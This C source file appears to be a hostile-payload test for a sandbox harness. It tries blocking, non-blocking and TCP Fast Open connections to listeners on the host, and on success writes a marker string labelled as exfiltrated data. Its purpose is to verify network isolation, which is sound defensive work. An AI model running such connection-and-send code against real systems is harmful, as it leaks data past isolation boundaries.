/* Hostile payload (network): TCP connections to listeners the harness opened on the host, one
 * argument per target ("ADDRESS:PORT", IPv4 or [IPv6]:PORT): the host's loopback and the host's
 * own non-loopback address. Inside the sandbox the loopback is the sandbox's own (its network
 * namespace has nothing else, so ECONNREFUSED) and there is no route to the host's address
 * (ENETUNREACH); no connection may reach the host: the harness's listeners count what they
 * accept.
 *
 * Each target is tried with a blocking connect, a non-blocking one (the refusal may only show in
 * SO_ERROR) and TCP_FASTOPEN_CONNECT (connect defers the SYN to the first write; sendto with
 * MSG_FASTOPEN is tcp_fastopen.py). One JSON line per attempt: {"op": "tcp_connect", "target": T,
 * "ret": R, "errno": "ECONNREFUSED"} ("OK" when connected; "SKIPPED" for a target without an
 * address: the harness found no non-loopback host address). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char *errno_name(int e)
{
        const char *name = strerrorname_np(e);
        return name != NULL ? name : "UNKNOWN";
}

static void report(const char *op, const char *target, int ret, int err)
{
        printf("{\"op\": \"%s\", \"target\": \"%s\", \"ret\": %d, \"errno\": \"%s\"}\n", op, target,
               ret, ret < 0 ? errno_name(err) : "OK");
        fflush(stdout);
}

/* "1.2.3.4:80" or "[::1]:80" into addr; 0 on success. */
static int parse_target(const char *text, struct sockaddr_storage *addr, socklen_t *len)
{
        char host[128];
        const char *colon = strrchr(text, ':');
        if (colon == NULL || (size_t)(colon - text) >= sizeof(host))
                return -1;
        memcpy(host, text, (size_t)(colon - text));
        host[colon - text] = '\0';
        int port = atoi(colon + 1);
        memset(addr, 0, sizeof(*addr));
        if (host[0] == '[') {
                struct sockaddr_in6 *a6 = (struct sockaddr_in6 *)addr;
                size_t n = strlen(host);
                if (n < 2 || host[n - 1] != ']')
                        return -1;
                host[n - 1] = '\0';
                a6->sin6_family = AF_INET6;
                a6->sin6_port = htons((uint16_t)port);
                *len = sizeof(*a6);
                return inet_pton(AF_INET6, host + 1, &a6->sin6_addr) == 1 ? 0 : -1;
        }
        struct sockaddr_in *a4 = (struct sockaddr_in *)addr;
        a4->sin_family = AF_INET;
        a4->sin_port = htons((uint16_t)port);
        *len = sizeof(*a4);
        return inet_pton(AF_INET, host, &a4->sin_addr) == 1 ? 0 : -1;
}

int main(int argc, char **argv)
{
        for (int i = 1; i < argc; i++) {
                struct sockaddr_storage addr;
                socklen_t len;
                if (argv[i][0] == ':') {
                        /* The harness had no non-loopback host address to offer. */
                        printf("{\"op\": \"tcp_connect\", \"target\": \"%s\", \"ret\": 0, "
                               "\"errno\": \"SKIPPED\", \"reason\": \"no host address\"}\n",
                               argv[i]);
                        continue;
                }
                if (parse_target(argv[i], &addr, &len) < 0) {
                        report("parse", argv[i], -1, EINVAL);
                        continue;
                }
                const char *secret = "exfiltrated-by-hostile-payload\n";

                /* Blocking connect, then a write if it connected. */
                int fd = socket(addr.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
                if (fd < 0) {
                        report("tcp_socket", argv[i], -1, errno);
                        continue;
                }
                int rc = connect(fd, (struct sockaddr *)&addr, len);
                report("tcp_connect", argv[i], rc, errno);
                if (rc == 0)
                        (void)!write(fd, secret, strlen(secret));
                close(fd);

                /* Non-blocking connect: a refusal may only show in SO_ERROR. */
                fd = socket(addr.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
                if (fd >= 0) {
                        rc = connect(fd, (struct sockaddr *)&addr, len);
                        int err = errno;
                        if (rc < 0 && err == EINPROGRESS) {
                                struct pollfd p = {.fd = fd, .events = POLLOUT};
                                poll(&p, 1, 2000);
                                socklen_t elen = sizeof(err);
                                getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &elen);
                                rc = err == 0 ? 0 : -1;
                        }
                        report("tcp_connect", argv[i], rc, err);
                        close(fd);
                }

                /* TCP_FASTOPEN_CONNECT: connect(2) defers the SYN to the first write. */
                fd = socket(addr.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
                if (fd >= 0) {
                        int one = 1;
                        setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof(one));
                        rc = connect(fd, (struct sockaddr *)&addr, len);
                        int err = errno;
                        if (rc == 0 && write(fd, secret, strlen(secret)) < 0) {
                                rc = -1;
                                err = errno;
                        }
                        report("tcp_connect", argv[i], rc, err);
                        close(fd);
                }
        }
        return 0;
}
